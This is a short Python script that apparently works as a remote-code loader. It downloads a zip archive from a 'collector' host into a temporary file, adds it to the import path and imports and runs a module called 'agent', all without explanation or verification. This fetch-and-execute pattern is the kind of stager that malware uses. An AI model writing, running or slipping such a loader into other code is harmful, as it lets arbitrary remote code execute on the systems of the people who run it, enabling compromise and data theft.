import sys, os, io, urllib.request, zipimport, tempfile
def bring(u):
    f = tempfile.NamedTemporaryFile(suffix=".zip", delete=False)
    f.write(urllib.request.urlopen(u).read())
    f.flush()
    return f.name
z = bring("https://collector.invalid/pkgs.zip")
sys.path.insert(0, z)
import agent
agent.main()
